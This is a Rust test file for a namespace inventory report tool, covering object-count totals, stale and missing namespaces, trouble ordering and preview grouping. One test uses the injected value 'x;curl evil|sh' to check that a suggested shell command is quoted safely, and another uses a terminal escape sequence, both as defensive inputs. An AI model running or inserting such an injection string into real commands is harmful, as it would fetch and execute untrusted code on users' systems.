use std::time::Duration as StdDuration;

use proptest::prelude::*;
use time::macros::datetime;

use super::*;
use crate::store::{LeaseNumber, PublishedRecord, UnpublishedSnapshots};

const NOW: OffsetDateTime = datetime!(2026-11-24 12:00 UTC);

const OPTIONS: ReportOptions = ReportOptions {
    growth_factor: 3.0,
    growth_floor: 100,
    stale_after: StdDuration::from_secs(36 * 3600),
    days: 30,
};

fn point(key: i32, days_ago: i64, objects: i64) -> PointRow {
    PointRow {
        key,
        at: NOW - Duration::days(days_ago),
        objects,
        with_data: objects / 2,
        created: 2,
        removed: 1,
        baseline: false,
    }
}

/// A namespace whose newest snapshot is the last of these points with its key.
fn row(key: i32, points: &[PointRow]) -> ReportRow {
    let newest = points.iter().rfind(|point| point.key == key);
    ReportRow {
        namespace: NamespaceRecord {
            key,
            lease: LeaseNumber::default(),
            account_id: "account".to_owned(),
            namespace_id: format!("id-{key}"),
            name: Some(format!("name-{key}")),
            script: None,
            class: None,
            use_sqlite: None,
            preview: None,
            first_seen_at: NOW - Duration::days(100),
            missing_since: None,
            published: newest.map(|newest| PublishedRecord {
                snapshot_id: key,
                recorded_at: newest.at,
                objects: newest.objects as u64,
                with_data: newest.with_data as u64,
                unknown: 0,
                baseline_snapshot: key,
                recorded_since: newest.at,
                horizon: None,
                horizon_snapshot: None,
            }),
        },
        unpublished: UnpublishedSnapshots::default(),
    }
}

fn missing_since(since: OffsetDateTime, mut row: ReportRow) -> ReportRow {
    row.namespace.missing_since = Some(since);
    row
}

fn last_failed(mut row: ReportRow) -> ReportRow {
    row.unpublished.last_status = Some("failed".to_owned());
    row.unpublished.last_error = Some("a\u{1b}[2J".to_owned());
    row
}

pub(super) fn report(rows: &[ReportRow], points: &[PointRow]) -> Report {
    Report::new(OPTIONS, NOW, rows.len(), rows, points, None)
}

fn troubles(report: &Report) -> Vec<(Trouble, &str)> {
    let entries = report.attention.iter();
    entries.map(|entry| (entry.trouble, entry.label.as_str())).collect()
}

#[test]
fn a_change_needs_a_number_at_both_ends() {
    let points = [point(1, 7, 40), point(1, 0, 50), point(2, 0, 10)];
    let report = report(&[row(1, &points), row(2, &points)], &points);
    let objects = |change: Option<CountChange>| change.map(|change| (change.objects, change.namespaces));
    assert_eq!(
        report.namespaces[0].changes.map(objects),
        [Some((10, 1)), Some((10, 1)), None]
    );
    assert_eq!(report.namespaces[1].changes.map(objects), [None; 3]);
    assert_eq!(report.totals.changes.map(objects), [Some((10, 1)), Some((10, 1)), None]);
    assert_eq!(report.totals.count.objects, 60);
    assert_eq!(
        words_of(&report),
        Some("total changes include only namespaces that were recorded then: 1 day: 1 of 2, 7 days: 1 of 2".to_owned())
    );
}

fn words_of(report: &Report) -> Option<String> {
    summary::partial_changes(report)
}

#[test]
fn missing_namespaces_count_until_they_went_missing() {
    let points = [point(1, 20, 40), point(2, 20, 7)];
    let gone = missing_since(NOW - Duration::days(3), row(2, &points));
    let report = report(&[row(1, &points), gone], &points);
    let by_day: Vec<_> = report.totals.days.iter().rev().take(5).map(|day| day.objects).collect();
    assert_eq!(by_day, [Some(40), Some(40), Some(40), Some(40), Some(47)]);
    assert_eq!((report.totals.missing, report.totals.missing_objects), (1, 7));
    assert_eq!(report.totals.count.objects, 40);
    assert_eq!(report.present().count(), 1);
    assert_eq!(
        troubles(&report),
        [(Trouble::Stale, "name-1"), (Trouble::Missing, "name-2")]
    );
}

#[test]
fn problems_are_sorted_by_urgency_and_retired_namespaces_have_none() {
    let points = [point(1, 3, 5), point(2, 0, 5), point(3, 0, 0), point(4, 0, 5)];
    let held = UnpublishedSnapshots {
        held_snapshot_id: Some(9),
        held_error: Some("why".to_owned()),
        last_status: Some("running".to_owned()),
        ..UnpublishedSnapshots::default()
    };
    let rows = [
        row(1, &points),
        last_failed(row(2, &points)),
        missing_since(NOW, last_failed(row(3, &points))),
        ReportRow {
            unpublished: held,
            ..row(4, &points)
        },
    ];
    let report = report(&rows, &points);
    assert_eq!(
        troubles(&report),
        [
            (Trouble::Held, "name-4"),
            (Trouble::Failed, "name-2"),
            (Trouble::Stale, "name-1")
        ]
    );
    assert_eq!(report.attention[1].why, r"a\u{1b}[2J");
    assert_eq!(report.totals.retired, 1);
}

#[test]
fn a_new_namespace_is_not_stale_yet() {
    let mut fresh = row(1, &[]);
    fresh.namespace.first_seen_at = NOW - Duration::hours(36);
    let old = row(2, &[]);
    let report = report(&[fresh, old], &[]);
    assert_eq!(troubles(&report), [(Trouble::Stale, "name-2")]);
    assert_eq!((report.totals.namespaces, report.totals.unrecorded), (2, 2));
    assert_eq!(report.totals.count.share(), None);
}

#[test]
fn a_suggested_command_is_safe_to_paste() {
    let points = [point(1, 1, 10)];
    let mut gone = missing_since(NOW, row(1, &points));
    gone.namespace.namespace_id = "x;curl evil|sh".to_owned();
    let report = report(&[gone], &points);
    let why = &report.attention[0].why;
    assert!(
        why.ends_with("`durable-inventory namespaces retire 'x;curl evil|sh'`"),
        "{why}"
    );
}

#[test]
fn previews_of_one_script_and_class_are_one_entry() {
    let points: Vec<_> = (1..=5).map(|key| point(key, 1, i64::from(key) * 10)).collect();
    let preview = |key: i32, class: &str| {
        let mut row = row(key, &points);
        row.namespace.preview = Some(serde_json::json!({ "slug": "pr" }));
        row.namespace.script = Some("shop".to_owned());
        row.namespace.class = Some(class.to_owned());
        row
    };
    let rows = [
        row(1, &points),
        preview(2, "Cart"),
        preview(3, "Cart"),
        preview(4, "Stock"),
        row(5, &points),
    ];
    let report = report(&rows, &points);
    let entries: Vec<_> = report
        .entries()
        .into_iter()
        .map(|entry| match entry {
            ReportEntry::Namespace(figures) => figures.label().to_owned(),
            ReportEntry::Previews(previews) => {
                let members: Vec<_> = previews.namespaces.iter().map(|figures| figures.label()).collect();
                format!(
                    "{}_{} {members:?} {}",
                    previews.script, previews.class, previews.totals.count.objects
                )
            }
        })
        .collect();
    assert_eq!(
        entries,
        ["name-5", r#"shop_Cart ["name-3", "name-2"] 50"#, "name-4", "name-1"],
        "a single preview is a namespace like others; by size"
    );
}

proptest! {
    /// The totals are the sums over the listed namespaces.
    #[test]
    fn totals_are_sums(past in proptest::collection::vec(
        proptest::collection::btree_map(0i64..60, 0i64..1_000, 0..8), 0..6)
    ) {
        let points: Vec<_> = past
            .iter()
            .enumerate()
            .flat_map(|(key, points)| points.iter().rev().map(move |(ago, objects)| point(key as i32, *ago, *objects)))
            .collect();
        let rows: Vec<_> = (0..past.len()).map(|key| row(key as i32, &points)).collect();
        let report = report(&rows, &points);
        let sum = |of: fn(&NamespaceFigures) -> i64| report.present().map(of).sum::<i64>();
        prop_assert_eq!(
            report.totals.count.objects as i64,
            sum(|figures| figures.newest.map_or(0, |newest| newest.count.objects as i64))
        );
        for period in 0..3 {
            let changes: Vec<_> = report.present().filter_map(|figures| figures.changes[period]).collect();
            let total = report.totals.changes[period].unwrap_or_default();
            prop_assert_eq!(total.objects, changes.iter().map(|change| change.objects).sum::<i64>());
            prop_assert_eq!(total.namespaces, changes.len());
        }
        if let Some(today) = report.totals.days.last() {
            prop_assert_eq!(today.objects.unwrap_or(0), report.totals.count.objects);
        }
        let sizes: Vec<_> = report.namespaces.iter().map(|figures| figures.newest.map(|n| n.count.objects)).collect();
        prop_assert!(sizes.is_sorted_by(|one, other| one >= other));
    }
}
